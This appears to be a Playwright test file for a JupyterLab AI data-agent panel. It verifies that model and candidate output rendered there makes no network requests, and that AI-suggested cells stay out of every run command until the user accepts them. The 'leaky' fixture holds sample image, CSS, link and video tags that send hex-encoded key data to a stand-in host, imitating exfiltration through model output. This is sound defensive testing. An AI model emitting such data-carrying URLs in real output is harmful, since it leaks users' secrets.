/**
 * Issue 22, findings 2 and 4: what the sidebar renders never fetches, and a
 * suggestion the user has not accepted never runs.
 *
 * A candidate's HTML output and the model's Markdown carry remote images
 * whose URLs hold data (as a candidate that read a file would write them):
 * no request to that host leaves the page, neither when the turn arrives nor
 * when the notebook is reopened from its saved metadata. A pending
 * suggestion stays out of Run All, Run Selected, Run All Above and Below,
 * and runs once accepted.
 */
import { expect, test } from '@jupyterlab/galata';
import type { Page } from '@playwright/test';

import {
  CANDIDATES,
  MockServer,
  ask,
  execute,
  finishEvents,
  notebookCells,
  notebookWithDf,
  openPanel,
  panel,
  reloadAndReopen
} from './helpers';

const LEAK = 'leak.invalid';
const HEX = '6f70656e61692d6b6579'; // what an exfiltrating URL carries

function leaky(code: string, marker: string) {
  const [base] = CANDIDATES;
  return {
    ...base,
    code,
    steps: [
      {
        number: 1,
        explanation: `Read it ![b](http://${LEAK}/md?d=${HEX}) <img src="http://${LEAK}/step?d=${HEX}">`,
        code
      }
    ],
    explanation: `Step 1: see ![chart](https://${LEAK}/explain?d=${HEX})`,
    result: {
      ...base.result,
      outputs: [
        {
          ...base.result!.outputs[0],
          data: {
            'text/html':
              `<p>${marker}</p><img src="http://${LEAK}/html?d=${HEX}">` +
              `<div style="background:url(http://${LEAK}/css?d=${HEX})">x</div>` +
              `<link rel="stylesheet" href="http://${LEAK}/link?d=${HEX}">` +
              `<video poster="http://${LEAK}/poster?d=${HEX}"></video>`,
            'text/markdown': `![m](http://${LEAK}/mdout?d=${HEX})`,
            'text/plain': marker
          }
        }
      ]
    }
  };
}

/** Every URL the page asks for, from now on. */
function recordRequests(page: Page): string[] {
  const urls: string[] = [];
  page.on('request', request => urls.push(request.url()));
  return urls;
}

async function kernelHas(page: Page, name: string): Promise<boolean> {
  return page.evaluate(async name => {
    const widget = (window as any).jupyterapp.shell.currentWidget;
    const kernel = widget.sessionContext.session.kernel;
    const future = kernel.requestExecute({
      code: '',
      silent: true,
      store_history: false,
      user_expressions: { x: `${JSON.stringify(name)} in globals()` }
    });
    const reply = await future.done;
    return reply.content.user_expressions.x.data['text/plain'] === 'True';
  }, name);
}

test('candidate output and model text load nothing, now or on reopen', async ({
  page
}) => {
  const server = new MockServer();
  await server.install(page);
  const urls = recordRequests(page);
  await notebookWithDf(page, 'norequests.ipynb');
  await openPanel(page);
  await ask(page, 'What is in the key file?');
  await expect.poll(() => server.bodies.length).toBe(1);
  await server.send(
    'job1',
    finishEvents('job1', 1, [leaky('open("key.txt").read()', 'rendered-1')], {
      turnId: 'turn-leak'
    })
  );
  const candidate = panel(page).locator('.jp-DataAgent-candidate');
  await expect(candidate.locator('.jp-DataAgent-output')).toContainText(
    'rendered-1'
  );
  await expect(candidate.locator('.jp-DataAgent-steps li')).toHaveCount(1);
  await page.waitForTimeout(1000); // an image load would have started by now
  expect(urls.filter(u => u.includes(LEAK))).toEqual([]);
  // The images are there as text, not as requests.
  await expect(candidate.locator('img[src*="leak"]')).toHaveCount(0);

  // Reopened: the turn comes back from the notebook's metadata, still inert.
  await page.notebook.save();
  await reloadAndReopen(page, 'norequests.ipynb');
  await openPanel(page);
  await expect(
    panel(page).locator('.jp-DataAgent-exchange').first()
  ).toContainText('What is in the key file?');
  await page.waitForTimeout(1000);
  expect(urls.filter(u => u.includes(LEAK))).toEqual([]);
});

test('a pending suggestion stays out of every way to run cells', async ({
  page
}) => {
  const server = new MockServer();
  await server.install(page);
  await notebookWithDf(page, 'pending.ipynb');
  await openPanel(page);
  await ask(page, 'Set a flag');
  await expect.poll(() => server.bodies.length).toBe(1);
  const code = 'PENDING_RAN = 1\nPENDING_RAN';
  await server.send(
    'job1',
    finishEvents('job1', 1, [{ ...CANDIDATES[0], code }], {
      turnId: 'turn-pending'
    })
  );
  const suggestion = page.locator(
    '.jp-Notebook .jp-Cell.jp-DataAgent-suggestion'
  );
  await expect(suggestion).toHaveCount(1);
  expect((await notebookCells(page))[1].source).toBe(code);

  await execute(page, 'notebook:run-all-cells');
  await expect(page.getByText('suggestion was not run').first()).toBeVisible();
  await page.notebook.selectCells(1);
  await execute(page, 'notebook:run-cell');
  await execute(page, 'notebook:run-all-above');
  await execute(page, 'notebook:run-all-below');
  expect(await kernelHas(page, 'PENDING_RAN')).toBe(false);
  expect((await notebookCells(page))[1].outputs).toEqual([]);

  // Restart & Run All runs its cells through the same executor; it is not
  // driven here: with jupyter_server 2.21 the restart answers 201, which
  // JupyterLab 4.6 rejects ("Invalid response: 201 Created"), and the kernel
  // then stays "starting" in the page whatever this extension does.

  // Accepted and run: now it is the user's cell and runs like any other.
  await suggestion.locator('button.jp-DataAgent-acceptAndRun').click();
  await expect.poll(() => kernelHas(page, 'PENDING_RAN')).toBe(true);
});
